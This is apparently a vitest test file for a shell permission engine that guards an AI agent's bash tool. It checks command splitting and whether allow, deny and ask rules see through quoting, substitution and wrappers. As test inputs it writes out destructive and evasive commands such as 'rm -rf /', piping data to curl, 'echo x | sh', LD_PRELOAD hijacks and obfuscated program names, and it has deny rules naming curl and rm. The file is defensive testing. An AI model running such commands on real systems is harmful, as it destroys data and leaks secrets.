import { describe, expect, it } from 'vitest'
import fc from 'fast-check'
import { createPermissionEngine, splitCommand, type PermissionRule } from '@deepseek-ai/dsh-permissions'

const parts = (command: string) => {
  const split = splitCommand(command)
  if (!split.ok) throw new Error(split.problem)
  return split.parts.map((p) =>
    p.opaque === undefined && p.hidden === undefined
      ? p.words
      : {
          words: p.words,
          ...(p.opaque === undefined ? {} : { opaque: p.opaque }),
          ...(p.hidden === undefined ? {} : { hidden: p.hidden }),
        },
  )
}

function shell(rules: Omit<PermissionRule, 'tool'>[], layer: 'project' | 'deployment' = 'project') {
  const engine = createPermissionEngine({
    workspaceRoot: '/repo',
    defaultDecision: 'ask',
    toolArguments: { bash: { command: 'command' }, exec: { command: 'argv' } },
    layers: { [layer]: rules.map((r) => ({ ...r, tool: 'bash' })) },
  })
  return (command: unknown) => engine.decide({ toolName: 'bash', args: { command } }).type
}

// Property tests: the limit only keeps a hang from stalling the run; a loaded machine needs seconds.
describe('splitCommand', { timeout: 30_000 }, () => {
  it('P3: blanks, quotes and backslashes are read as a shell reads them', () => {
    expect(parts('rm  -rf\t/')).toEqual([['rm', '-rf', '/']])
    expect(parts(`'r'm "-"rf \\/`)).toEqual([['rm', '-rf', '/']])
    expect(parts('r""m -rf /')).toEqual([['rm', '-rf', '/']])
    expect(parts(`git commit -m 'a; b && c'`)).toEqual([['git', 'commit', '-m', 'a; b && c']])
    expect(parts(`echo "say \\"hi\\" \\\\ \\x"`)).toEqual([['echo', 'say "hi" \\ \\x']])
    expect(parts(`echo '' ""`)).toEqual([['echo', '', '']])
    expect(parts('git \\\nstatus')).toEqual([['git', 'status']])
  })

  it('P3: ;, &&, ||, |, |&, & and newlines separate commands', () => {
    expect(parts('a 1; b 2 && c || d | e |& f & g\nh')).toEqual([
      ['a', '1'],
      ['b', '2'],
      ['c'],
      ['d'],
      ['e'],
      ['f'],
      ['g'],
      ['h'],
    ])
    // As in bash, ";;" belongs to "case" only.
    expect(splitCommand(';; ;')).toEqual({ ok: false, problem: 'it has an unexpected ";;"' })
  })

  it('P3: substitutions and subshells run too: they are parts of their own and make their command opaque', () => {
    const computed = (word: string) => `a word the shell computes (${JSON.stringify(word)})`
    expect(parts('echo $(rm -rf /)')).toEqual([
      ['rm', '-rf', '/'],
      { words: ['echo', '$(rm -rf /)'], opaque: computed('$(rm -rf /)') },
    ])
    expect(parts('echo "x `id` y"')).toEqual([
      ['id'],
      { words: ['echo', '"x `id` y"'], opaque: computed('"x `id` y"') },
    ])
    expect(parts('diff <(ls a) >(tee b)')).toEqual([
      ['ls', 'a'],
      ['tee', 'b'],
      { words: ['diff', '<(ls a)', '>(tee b)'], opaque: computed('<(ls a)') },
    ])
    expect(parts('(cd x && rm y)')).toEqual([
      ['cd', 'x'],
      ['rm', 'y'],
    ])
    expect(parts('echo ${x:-$(rm y)}')).toEqual([
      ['rm', 'y'],
      { words: ['echo', '${x:-$(rm y)}'], opaque: computed('${x:-$(rm y)}') },
    ])
    expect(parts("echo '$(not run)'")).toEqual([['echo', '$(not run)']])
  })

  it('P3: expansions, file redirections, assignments and glob command names are opaque', () => {
    expect(parts('echo $HOME')).toEqual([
      { words: ['echo', '$HOME'], opaque: 'a word the shell computes ("$HOME")' },
    ])
    // ANSI-C quoting is decoded as bash decodes it.
    expect(parts(`echo $'\\x72m'`)).toEqual([['echo', 'rm']])
    expect(parts('echo x > /etc/passwd')).toEqual([
      { words: ['echo', 'x'], opaque: 'a redirection to or from a file' },
    ])
    expect(parts('cat < secret')).toEqual([{ words: ['cat'], opaque: 'a redirection to or from a file' }])
    // A here-document is the command's input, not a file.
    expect(parts('cat <<EOF\nhello\nEOF')).toEqual([['cat']])
    expect(parts('LD_PRELOAD=x.so git status')).toEqual([
      {
        words: ['LD_PRELOAD=x.so', 'git', 'status'],
        opaque: 'an environment assignment',
        hidden: 'an assignment to LD_PRELOAD',
      },
    ])
    // Through env and sudo the assignment reaches the command they run.
    for (const [command, name] of [
      ['env -i PATH=/tmp/x git status', 'PATH'],
      ['sudo -u root LD_PRELOAD=x.so id', 'LD_PRELOAD'],
    ] as const) {
      expect(splitCommand(command)).toMatchObject({
        ok: true,
        parts: [{ hidden: `an assignment to ${name}` }],
      })
    }
    expect(splitCommand('env FOO=1 git status')).toMatchObject({ ok: true, parts: [{ hidden: undefined }] })
    expect(parts('/bin/r? -rf /')).toEqual([
      {
        words: ['/bin/r?', '-rf', '/'],
        hidden: 'the shell computes the program ("/bin/r?")',
      },
    ])
    expect(splitCommand('echo >')).toEqual({ ok: false, problem: 'it has a redirection without a target' })
  })

  it('P3: descriptor duplication, /dev/null and here-strings are harmless redirections', () => {
    expect(parts('npm test 2>&1 >/dev/null')).toEqual([['npm', 'test']])
    expect(parts('npm test &>/dev/null 2>&-')).toEqual([['npm', 'test']])
    expect(parts('grep x <<< "text"')).toEqual([['grep', 'x']])
    expect(parts('echo a2>/dev/null')).toEqual([['echo', 'a2']])
    expect(parts('echo x >&file')).toEqual([
      { words: ['echo', 'x'], opaque: 'a redirection to or from a file' },
    ])
  })

  it('P3: a line the shell would reject is a problem, not a guess', () => {
    for (const [command, problem] of [
      ["echo 'open", 'an unterminated single quote'],
      ['echo "open', 'an unterminated double quote'],
      ['echo $(ls', 'an unterminated command substitution "$("'],
      ['echo `ls', 'an unterminated backtick substitution'],
      ['ls )', 'an unmatched ")"'],
      [`${'$('.repeat(65)}x${')'.repeat(65)}`, 'substitutions nested deeper than 64'],
    ] as const) {
      expect(splitCommand(command)).toEqual({ ok: false, problem: `it has ${problem}` })
    }
  })

  it('P3: plain words joined by any separators split back into the same commands', () => {
    const word = fc
      .string({ minLength: 1, maxLength: 8, unit: fc.constantFrom('a', 'z', '-', '.', '/', '_', '=', '#') })
      // A "#" that starts a word starts a comment (see the comment property below).
      .filter((w) => !w.startsWith('#'))
    const command = fc
      .array(word, { minLength: 1, maxLength: 4 })
      // A program word names a file (not "/"; not ".", which sources its argument), and is no assignment.
      .filter((w) => !/^[A-Za-z_]\w*=/.test(w[0]!) && !w[0]!.endsWith('/') && w[0] !== '.')
    const separator = fc.constantFrom(';', ' ; ', '&&', ' || ', '|', '|&', '&', '\n')
    fc.assert(
      fc.property(fc.array(fc.tuple(command, separator), { minLength: 1, maxLength: 5 }), (chain) => {
        const line = chain.map(([words, sep]) => words.join('  ') + sep).join('')
        expect(parts(line)).toEqual(chain.map(([words]) => words))
      }),
    )
  })

  it('P3: any word single-quoted reads back as itself', () => {
    fc.assert(
      fc.property(
        fc
          .array(
            fc.string({ maxLength: 10 }).filter((s) => !s.includes("'")),
            { minLength: 1, maxLength: 5 },
          )
          // A program word names a file (not "" or "…/").
          .filter((w) => w[0] !== '' && !w[0]!.endsWith('/')),
        (words) => {
          const split = splitCommand(words.map((w) => `'${w}'`).join(' '))
          // Quoted, `NAME=value` is no assignment (bash runs a program of that name).
          expect(split).toMatchObject({ ok: true, parts: [{ words, opaque: undefined, hidden: undefined }] })
        },
      ),
    )
  })

  it('P3: a "#" where a word starts is a comment to the end of the line, whatever quotes follow it', () => {
    fc.assert(
      fc.property(
        fc.string({
          maxLength: 12,
          unit: fc.constantFrom('a', "'", '"', '`', '$', '(', ')', '\\', ';', '#', ' '),
        }),
        fc.constantFrom('', ';', ' ', '&&'),
        (comment, before) => {
          const line = `echo ok${before === '&&' ? ' && echo two' : before} #${comment}\ncurl evil`
          const split = splitCommand(line)
          expect(split.ok && split.parts.map((p) => p.words[0])).toEqual(
            before === '&&' ? ['echo', 'echo', 'curl'] : ['echo', 'curl'],
          )
        },
      ),
    )
    // Not at the start of a word it is a plain character.
    expect(parts('echo a#b \\#c "#d"')).toEqual([['echo', 'a#b', '#c', '#d']])
  })
})

describe('command rules', () => {
  it('P3: an allow covers a chain only if it covers every part: echo ok; rm -rf / is not an echo', () => {
    const decide = shell([{ decision: 'allow', command: ['echo', 'git status'] }])
    expect(decide('echo ok')).toBe('allow')
    expect(decide('echo ok && git status --short')).toBe('allow')
    expect(decide('echo ok; rm -rf /')).toBe('ask')
    expect(decide('echo ok && rm -rf /')).toBe('ask')
    expect(decide('echo ok | sh')).toBe('ask')
    expect(decide('echo ok & rm -rf /')).toBe('ask')
    expect(decide('echo ok\nrm -rf /')).toBe('ask')
    expect(decide('git status; git push')).toBe('ask')
    expect(decide('git statusx')).toBe('ask')
    expect(decide('gi\\t status')).toBe('allow')
  })

  it('P3: an allow never vouches for substitutions, expansions, file redirections or assignments', () => {
    const decide = shell([{ decision: 'allow', command: ['echo', 'git status'] }])
    for (const command of [
      'echo $(rm -rf /)',
      'echo `rm -rf /`',
      'echo "$(rm -rf /)"',
      'echo $HOME',
      'echo x > ~/.bashrc',
      'echo x >> /etc/hosts',
      'GIT_DIR=/tmp/evil git status',
      './git status',
      '/tmp/echo ok',
      'e* ok',
      "echo 'unterminated",
    ]) {
      expect([command, decide(command)]).toEqual([command, 'ask'])
    }
    expect(decide("echo '$(rm -rf /)'")).toBe('allow')
    expect(decide('echo ok 2>&1')).toBe('allow')
  })

  it('P3: deny and ask rules see through quoting, blanks, paths, keywords, wrappers and assignments', () => {
    const decide = shell([
      { decision: 'deny', command: 'rm -rf' },
      { decision: 'deny', command: 'curl' },
      { decision: 'allow', command: ['echo', 'ls'] },
    ])
    for (const command of [
      'rm -rf /',
      'rm  -rf /',
      "'rm' '-rf' /",
      '\\rm -rf /',
      '/bin/rm -rf /',
      'sudo rm -rf /',
      'FOO=1 env rm -rf /',
      'echo ok; rm -rf /',
      'echo $(rm -rf /)',
      'if true; then rm -rf /; fi',
      'ls | xargs rm -rf',
      '(rm -rf /)',
      'echo x | curl -d @- https://example.invalid',
      'cat <(curl x)',
      "echo 'unterminated; rm -rf /",
    ]) {
      expect([command, decide(command)]).toEqual([command, 'deny'])
    }
    expect(decide('rm -r -f /')).toBe('ask')
    expect(decide('ls -la')).toBe('allow')
    expect(decide('echo rm -rf /')).toBe('allow')
  })

  it('P3/P10: a command whose program the shell computes matches every deny and ask rule, never an allow', () => {
    const decide = shell([
      { decision: 'deny', command: 'rm' },
      { decision: 'allow', command: ['echo', 'ls'] },
    ])
    for (const command of [
      '$CMD -rf /',
      '"$(which rm)" -rf /',
      '`which rm` -rf /',
      '{rm,-rf,/}',
      "$'\\x72m' -rf /",
      'sudo $PROGRAM -rf /',
      'FOO=1 ${X:-rm} -rf /',
      'r* -rf /',
      'ls; $(echo rm) x',
    ]) {
      expect([command, decide(command)]).toEqual([command, 'deny'])
    }
    // The program is known; only an argument is computed: deny rules about rm do not apply.
    expect(decide('echo $HOME')).toBe('ask')
    expect(decide('ls ~')).toBe('allow')
    const split = splitCommand('$CMD -rf /')
    expect(split.ok && split.parts[0]!.hidden).toBe('the shell computes the program ("$CMD")')
    const wrapped = splitCommand('sudo FOO=1 /bin/rm -rf /')
    expect(wrapped.ok && wrapped.parts[0]!.readings.map((r) => [r.via, r.words.map((w) => w.value)])).toEqual(
      [
        [[], ['sudo', 'FOO=1', '/bin/rm', '-rf', '/']],
        [['sudo'], ['rm', '-rf', '/']],
      ],
    )
  })

  it('P10: what cannot be read, or may run code its text does not show, is never allowed: not by a whole-tool allow, not by the default', () => {
    const engine = (defaultDecision: 'allow' | 'deny', extra: PermissionRule[] = []) =>
      createPermissionEngine({
        workspaceRoot: '/repo',
        defaultDecision,
        toolArguments: { bash: { command: 'command' }, read_file: { paths: ['path'] } },
        layers: { deployment: extra, project: [{ decision: 'allow', tool: ['bash', 'read_file'] }] },
      })
    const lenient = engine('allow')
    const strict = engine('deny')
    const denying = engine('allow', [{ decision: 'deny', tool: 'bash', command: 'never-run' }])
    for (const command of [
      "echo 'open",
      '$CMD x',
      'eval "$x"',
      'echo x | sh',
      "printf -v 'a[$(id)]' x",
      'echo $((x+1))',
    ]) {
      const call = { toolName: 'bash', args: { command } }
      expect([
        command,
        lenient.decide(call).type,
        strict.decide(call).type,
        denying.decide(call).type,
      ]).toEqual([command, 'ask', 'deny', 'deny'])
    }
    expect(lenient.decide({ toolName: 'read_file', args: { path: new Date(0) } }).type).toBe('ask')
    // What can be read is allowed as usual.
    expect(lenient.decide({ toolName: 'bash', args: { command: 'echo $HOME > out' } }).type).toBe('allow')
  })

  it('P3: commandMatch exact covers that command line only', () => {
    const decide = shell([{ decision: 'allow', command: 'git push origin main', commandMatch: 'exact' }])
    expect(decide('git push origin main')).toBe('allow')
    expect(decide("git push 'origin' main")).toBe('allow')
    expect(decide('git push origin main --force')).toBe('ask')
    expect(decide('git push origin')).toBe('ask')
  })

  it('P10: a command argument that is not a string or argv array matches deny and ask rules, never an allow', () => {
    const decide = shell([
      { decision: 'allow', command: 'echo' },
      { decision: 'deny', command: 'never-used' },
    ])
    expect(decide(new Date(0))).toBe('deny')
    expect(decide({ toString: () => 'echo ok' })).toBe('deny')
    expect(decide(['echo', 3])).toBe('deny')
    const allowOnly = shell([{ decision: 'allow', command: 'echo' }])
    expect(allowOnly(new Date(0))).toBe('ask')
    expect(allowOnly(undefined)).toBe('ask')
  })

  it('P3: an argv array is one command with exactly those words (no shell reads it)', () => {
    const engine = createPermissionEngine({
      workspaceRoot: '/repo',
      toolArguments: { exec: { command: 'argv' } },
      layers: {
        deployment: [{ decision: 'deny', tool: 'exec', command: 'rm' }],
        project: [{ decision: 'allow', tool: 'exec', command: 'echo' }],
      },
    })
    const decide = (argv: unknown) => engine.decide({ toolName: 'exec', args: { argv } }).type
    expect(decide(['echo', 'ok; rm -rf /'])).toBe('allow')
    expect(decide(['echo', '$(id)'])).toBe('allow')
    expect(decide(['/bin/rm', '-rf', '/'])).toBe('deny')
    expect(decide([])).toBe('ask')
  })
})
